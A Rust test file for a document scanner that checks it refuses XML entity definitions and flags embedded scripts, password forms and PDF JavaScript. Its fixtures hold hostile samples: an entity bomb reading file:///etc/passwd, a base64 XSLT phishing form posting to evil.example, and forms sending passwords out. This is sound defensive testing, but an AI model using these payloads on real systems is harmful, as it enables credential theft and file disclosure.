//! XML of files of their own: text, addresses, and what is refused.

use bytes::Bytes;
use expect_test::{Expect, expect};
use scan::content::Content;

use super::{Doctype, doctype};
use crate::budget::{Budget, Limits};
use crate::request::{Part, Request};
use crate::unpack::unpack;

fn open(bytes: &[u8], name: &str) -> Content {
    let part = Part {
        place: "1".to_owned(),
        names: vec![name.to_owned()],
        bytes: Bytes::copy_from_slice(bytes),
        ..Part::default()
    };
    unpack(&Request { parts: vec![part], ..Request::default() }, &mut Budget::new(Limits::default()))
}

fn check(bytes: &[u8], name: &str, expected: &Expect) {
    let content = open(bytes, name);
    let item = &content.items[0];
    let links: Vec<&str> = item.links.iter().map(|link| link.target.as_str()).collect();
    let unopened: Vec<&str> = content.unopened.iter().map(|one| one.why.word()).collect();
    let lines: Vec<&str> = item.text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    expected.assert_eq(&format!("{:?} {links:?} {:?} {unopened:?}", lines, item.marks));
}

#[test]
fn text_and_addresses_are_found() {
    let kml =
        br#"<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>A &amp; B &#x41;</name>
        <description>see http://one.example/x</description><Link href="https://two.example/y"/></Placemark></kml>"#;
    check(
        kml,
        "map.kml",
        &expect![[
            r#"["A & B A", "see http://one.example/x"] ["https://two.example/y", "http://one.example/x"] [] []"#
        ]],
    );
}

#[test]
fn every_encoding_is_read() {
    let xml = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>Grüße</a>";
    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    check(&wide, "a.xml", &expect![[r#"["Grüße"] [] [] []"#]]);
    check(b"<?xml version='1.0' encoding='iso-8859-15'?><a>\xa4</a>", "a.xml", &expect![[r#"["€"] [] [] []"#]]);
}

#[test]
fn a_definition_is_refused_and_not_expanded() {
    let bomb = br#"<!DOCTYPE l [<!ENTITY a "lolol"><!ENTITY b "&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><l>[&b;&x;]</l>"#;
    check(bomb, "report.xml", &expect![[r#"["[]"] [] ["dtd"] ["refused"]"#]]);
    let wide: Vec<u8> = String::from_utf8_lossy(bomb).encode_utf16().flat_map(u16::to_be_bytes).collect();
    check(&wide, "report.xml", &expect![[r#"["[]"] [] ["dtd"] ["refused"]"#]]);
}

#[test]
fn what_a_viewer_loads_is_a_link() {
    let xml = br#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a>t</a>"#;
    check(xml, "a.xml", &expect![[r#"["t"] ["http://evil.example/x.xsl"] [] []"#]]);
}

/// Browsers run a transformation that comes with the text; invoices and feeds name one beside them.
#[test]
fn a_transformation_that_comes_with_the_text_is_a_script() {
    let coded = "PHhzbDpzdHlsZXNoZWV0IHZlcnNpb249IjEuMCIgeG1sbnM6eHNsPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L1hTTC9UcmFuc2Zvcm0iPjx4c2w6b3V0cHV0IG1l\
        dGhvZD0iaHRtbCIvPjx4c2w6dGVtcGxhdGUgbWF0Y2g9Ii8iPjxodG1sPjxib2R5Pjxmb3JtIGFjdGlvbj0iaHR0cDovL2V2aWwuZXhhbXBsZS9sb2dpbiIgbWV0aG9kPSJw\
        b3N0Ij48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InAiLz48aW5wdXQgdHlwZT0ic3VibWl0Ii8+PC9mb3JtPjwvYm9keT48L2h0bWw+PC94c2w6dGVtcGxhdGU+PC94\
        c2w6c3R5bGVzaGVldD4=";
    let percent = "%3Cxsl:stylesheet%3E%3Cinput%20type=%22password%22/%3E%3C/xsl:stylesheet%3E";
    let instructions = [
        format!("<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml;base64,{coded}\"?>"),
        format!("<?xml-stylesheet href = 'data:text/xml&#59;base64,{coded}' type = 'application/xslt+xml; a=b'?>"),
        format!("<?xml version='1.0'?><?xml-stylesheet type='text/xml' href='data:text/xml,{percent}'?>"),
        format!(
            "{}<?xml-stylesheet type='text/xsl' href='data:,{percent}'?>",
            "<?xml-stylesheet href='a.css'?>".repeat(20)
        ),
    ];
    for (name, body) in [
        ("a.xml", "<d/>"),
        ("a.rss", "<rss version='2.0'><channel/></rss>"),
        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>"),
        ("a.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><body>Hi</body></html>"),
    ] {
        for instruction in &instructions {
            let content = open(format!("{instruction}{body}").as_bytes(), name);
            assert!(content.items[0].marks.contains(&"script".to_owned()), "{name} {instruction} {content:?}");
            let sheets: Vec<_> = content.items.iter().filter(|item| item.place.starts_with("1/sheet:")).collect();
            assert!(sheets.len() == 1 && sheets[0].marks.contains(&"password_field".to_owned()), "{name} {content:?}");
        }
        for honest in
            ["type='text/xsl' href='a.xsl'", "type='text/css' href='data:text/css,a{}'", "href='http://a.example/b'"]
        {
            let content = open(format!("<?xml-stylesheet {honest}?>{body}").as_bytes(), name);
            let item = &content.items[0];
            assert!(
                !item.marks.contains(&"script".to_owned()) && !item.links.is_empty(),
                "{name} {honest} {content:?}"
            );
        }
    }
}

#[test]
fn instructions_that_name_nothing_hide_none() {
    let xml = format!(
        "{}<?xml-stylesheet type='text/xsl' href='data:,%3Cx/%3E'?><d/>",
        "<?xml-stylesheet type='text/xsl'?>".repeat(1_001)
    );
    assert!(open(xml.as_bytes(), "a.xml").items[0].marks.contains(&"script".to_owned()));
}

#[test]
fn a_transformation_within_the_text_is_a_script() {
    let xml = |href: &str, vocabulary: &str| {
        format!(
            "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{href}'?><d><x:stylesheet id='s' version='1.0' xmlns:x='{vocabulary}'>\
             <x:template match='/'><x:element name=\"scr{{'ipt'}}\">1</x:element><form action='http://evil.example/'/></x:template></x:stylesheet></d>"
        )
    };
    let marks = |xml: &str| open(xml.as_bytes(), "a.xml").items.remove(0).marks;
    let found = marks(&xml("#s", "http://www.w3.org/1999/XSL/&#x54;ransform"));
    assert!(found.contains(&"script".to_owned()) && found.contains(&"form".to_owned()), "{found:?}");
    assert!(marks(&xml("#s", "http://a.example/")).is_empty());
    assert!(marks(&xml("a.xsl", "http://www.w3.org/1999/XSL/Transform")).is_empty());
}

#[test]
fn well_known_definitions_are_none_of_its_own() {
    for (head, expected) in [
        ("<a/>", Doctype::None),
        ("<!-- <!DOCTYPE a [] --><a/>", Doctype::None),
        ("<!DOCTYPE html><html/>", Doctype::Known),
        (
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
            Doctype::Known,
        ),
        ("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\"><svg/>", Doctype::Own),
        (
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/svg11.dtd\" [<!ENTITY a '&b;'>]><svg/>",
            Doctype::Own,
        ),
        ("<?xml version='1.0'?>\n<!-- x --><!doctype a SYSTEM 'http://evil.example/a'><a/>", Doctype::Own),
        ("<!DOCTYPE a SYSTEM 'x\">' [<!ENTITY a 'b'>]><a/>", Doctype::Own),
    ] {
        assert_eq!(doctype::find(head), expected, "{head}");
    }
}

#[test]
fn a_definition_in_another_place_counts_as_well() {
    check(
        b"<?xml version='1.0'?><a>x<!DOCTYPE a [<!ENTITY b 'c'>]>&b;</a>",
        "a.xml",
        &expect![[r#"["x"] [] ["dtd"] ["refused"]"#]],
    );
}

#[test]
fn deep_nesting_ends() {
    let deep = format!("<?xml version='1.0'?>{}", "<a>".repeat(200_000));
    check(deep.as_bytes(), "a.xml", &expect![[r#"[] [] [] ["over_budget"]"#]]);
}

#[test]
fn names_of_vocabularies_are_replaced_and_nothing_else() {
    let drawing = |subset: &str, body: &str| {
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [{subset}]><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"&ns_x;\">{body}</svg>"
        )
    };
    let known = drawing(
        "\n\t<!ENTITY ns_x \"http://ns.adobe.com/x/\">\n\t<!ENTITY ns_svg 'http://www.w3.org/2000/svg'>\n",
        "<a href=\"https://a.example/\">x</a>",
    );
    check(known.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://a.example/"] [] []"#]]);
    // What it stands for is seen all the same.
    let word = drawing("<!ENTITY u 'https://evil.example'>", "<a href=\"&u;/login\">x</a>");
    check(word.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://evil.example/login"] ["dtd"] ["refused"]"#]]);
    for own in [
        "<!ENTITY a \"&b;\">",
        "<!ENTITY % a \"b\">",
        "<!ENTITY a \"http://www.w3.org.evil.example/\">",
        "<!ENTITY a SYSTEM \"file:///x\">",
        "<!ELEMENT a ANY>",
        "%a;",
    ] {
        assert_eq!(open(drawing(own, "").as_bytes(), "a.svg").items[0].marks, ["dtd"], "{own}");
    }
    let many = drawing("<!ENTITY a \"b\">", &"&a;".repeat(20_000));
    assert_eq!(open(many.as_bytes(), "a.svg").items[0].marks, ["dtd"]);
}

#[test]
fn pages_in_xml_are_seen_under_any_prefix() {
    let xml = br#"<r xmlns:x="http://www.w3.org/1999/xhtml"><x:form action="https://evil.example/in"><x:input type="password"/></x:form><x:script>1</x:script></r>"#;
    let content = open(xml, "invoice.xml");
    for mark in ["form", "password_field", "script"] {
        assert!(content.items[0].marks.iter().any(|own| own == mark), "{mark} {:?}", content.items[0]);
    }
}

/// Settings of builders and servers have such elements; a browser runs what has a sheet, or the vocabulary of pages.
#[test]
fn an_element_that_nothing_runs_is_no_script() {
    let marks = |xml: &str| open(xml.as_bytes(), "config.xml").items.remove(0).marks;
    let settings = "<project><builders><script>make all</script></builders></project>";
    assert!(marks(settings).is_empty(), "{settings}");
    for run in [
        format!("<?xml version='1.0'?><?xml-stylesheet href='a.xsl'?>{settings}"),
        "<a xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></a>".to_owned(),
    ] {
        assert!(marks(&run).contains(&"script".to_owned()), "{run}");
    }
}

#[test]
fn a_document_in_a_data_package() {
    let pdf = "JVBERi0xLjcKMSAwIG9iago8PC9UeXBlL0NhdGFsb2cvT3BlbkFjdGlvbjw8L1MvSmF2YVNjcmlwdC9KUyhhcHAuYWxlcnQoMSkpPj4+PgplbmRvYmoKeHJl\
        ZgowIDIKMDAwMDAwMDAwMCA2NTUzNSBmIAowMDAwMDAwMDA5IDAwMDAwIG4gCnRyYWlsZXIKPDwvU2l6ZSAyIC9Sb290IDEgMCBSPj4Kc3RhcnR4cmVmCjg3CiUlRU9GCg==";
    let xdp = format!(
        "<?xml version='1.0'?><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><pdf><document><chunk>\n{pdf}\n</chunk></document></pdf></xdp:xdp>"
    );
    let found = crate::formats::shown::shown("form.xdp", xdp.as_bytes());
    assert!(found.contains("1/xdp:0 pdf") && found.contains("javascript"), "{found}");
    let broken = "<?xml version='1.0'?><xdp:xdp><chunk>!</chunk></xdp:xdp>";
    assert!(crate::formats::shown::shown("form.xdp", broken.as_bytes()).contains("unopened 1 broken"));
}

#[test]
fn data_of_forms() {
    let xfdf =
        "<?xml version='1.0'?><xfdf xmlns='http://ns.adobe.com/xfdf/'><f href='http://evil.example/x.pdf'/></xfdf>";
    let found = crate::formats::shown::shown("a.xfdf", xfdf.as_bytes());
    assert!(found.contains("external_link") && found.contains("http://evil.example/x.pdf"), "{found}");
    let fdf = b"%FDF-1.2\n1 0 obj\n<</FDF<</JavaScript<</Before(app.alert(1))/Doc[(a)(app.beep\\(\\))]>>/F(\\\\\\\\evil.example\\\\x.pdf)>>>>\nendobj\n\
        trailer\n<</Root 1 0 R>>\n%%EOF\n";
    let found = crate::formats::shown::shown("a.bin", fdf);
    for word in ["1 fdf", "javascript", "remote_goto", "external_link", "Fetched:", "app.alert(1)", "app.beep()"] {
        assert!(found.contains(word), "{word}: {found}");
    }
}

/// Every kind of file that is XML, with an entity for an address, and with a public definition alone.
#[test]
fn own_entities_are_refused_in_every_kind_of_file() {
    let odf = |body: &str| {
        format!(
            "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"t\" xmlns:xlink=\"x\" office:mimetype=\"application/vnd.oasis.opendocument.text\"><office:body><office:text>{body}</office:text></office:body></office:document>"
        )
    };
    let bodies: [(&str, String); 8] = [
        ("a.kml", "<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Link href=\"@/x\"/><name>@/x</name></kml>".to_owned()),
        ("a.saml", "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" Destination=\"@/x\">@/x</samlp:Response>".to_owned()),
        ("example.org!example.net!1!2.xml", "<feedback><report_metadata><extra_contact_info>@/x</extra_contact_info></report_metadata></feedback>".to_owned()),
        ("a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"@/x\"><text>a</text></a></svg>".to_owned()),
        ("a.xhtml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><a href=\"@/x\">a</a></body></html>".to_owned()),
        ("a.fodt", odf("<text:p><text:a xlink:href=\"@/x\">a</text:a></text:p>")),
        ("a.xml", "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p><w:hlink w:dest=\"@/x\"><w:r><w:t>@/x</w:t></w:r></w:hlink></w:p></w:body></w:wordDocument>".to_owned()),
        ("a.library-ms", "<libraryDescription><url>@/x</url></libraryDescription>".to_owned()),
    ];
    for (name, body) in &bodies {
        let own = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY u \"https://evil.example\">]>{}",
            body.replace('@', "&u;")
        );
        let content = open(own.as_bytes(), name);
        let whys: Vec<&str> = content.unopened.iter().map(|one| one.why.word()).collect();
        assert!(
            content.items[0].marks.contains(&"dtd".to_owned()) && whys == ["refused"],
            "{name} {:?} {whys:?}",
            content.items[0]
        );
        let is_seen = content.items[0].links.iter().any(|link| link.target.contains("https://evil.example/x"));
        assert!(is_seen, "{name} {:?}", content.items[0]);
        let plain = format!("<?xml version=\"1.0\"?>{}", body.replace('@', "https://a.example"));
        let known = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">{}",
            body.replace('@', "https://a.example")
        );
        for honest in [plain, known] {
            let content = open(honest.as_bytes(), name);
            assert!(
                !content.items[0].marks.contains(&"dtd".to_owned()) && content.unopened.is_empty(),
                "{name} {content:?}"
            );
            assert!(content.items[0].links.iter().any(|link| link.target.contains("https://a.example/x")), "{name}");
        }
    }
}

#[test]
fn what_follows_an_empty_element_of_a_page_in_xml_is_seen() {
    for empty in ["<title/>", "<script src='a'/>", "<x:textarea/>", "<iframe />"] {
        let page = format!(
            "<html xmlns='http://www.w3.org/1999/xhtml' xmlns:x='http://www.w3.org/1999/xhtml'><head>{empty}</head><body>\
             <form action='https://evil.example/in'><input type='password'/></form></body></html>"
        );
        for name in ["a.xhtml", "a.xml", "a.html"] {
            let content = open(page.as_bytes(), name);
            let marks = &content.items[0].marks;
            assert!(marks.contains(&"password_field".to_owned()), "{name} {empty} {marks:?}");
        }
    }
}

#[test]
fn what_follows_an_empty_block_that_hides_is_seen() {
    for (before, after) in [
        ("<div style='display:none'/>", ""),
        ("<p hidden='hidden'/>", ""),
        ("<x:b style='font-size:0'/>", ""),
        ("<svg><foreignObject><section style='display:none'/>", "</foreignObject></svg>"),
        ("<svg><span style='display:none'/>", "</svg>"),
        ("<svg><p></p><section style='display:none'/>", "</svg>"),
    ] {
        let page = format!(
            "<html xmlns='http://www.w3.org/1999/xhtml' xmlns:x='http://www.w3.org/1999/xhtml'><body>{before}Pay here{after}</body></html>"
        );
        for name in ["a.xhtml", "a.xml", "a.html"] {
            let content = open(page.as_bytes(), name);
            let item = &content.items[0];
            assert!(item.text.contains("Pay here") || item.other_text.contains("Pay here"), "{name} {before} {item:?}");
        }
    }
    // What it says twice is kept once.
    let plain = "<html xmlns='http://www.w3.org/1999/xhtml'><body><p/>Hello<div/>there</body></html>";
    let content = open(plain.as_bytes(), "a.xhtml");
    assert_eq!((content.items[0].text.trim(), content.items[0].other_text.as_str()), ("Hello\nthere", ""));
}

#[test]
fn a_bracket_behind_the_declaration_hides_nothing() {
    for head in ["<!DOCTYPE html>", "<!DOCTYPE html SYSTEM 'about:legacy-compat'>", "<!DOCTYPE a SYSTEM \"x[\">"] {
        let page =
            format!("{head}<form action='https://evil.example/in'><input type=password></form>[<!ENTITY a 'b'>]>c");
        for name in ["a.html", "a.svg"] {
            let marks = open(page.as_bytes(), name).items[0].marks.clone();
            assert!(marks.contains(&"password_field".to_owned()), "{name} {head} {marks:?}");
        }
    }
}
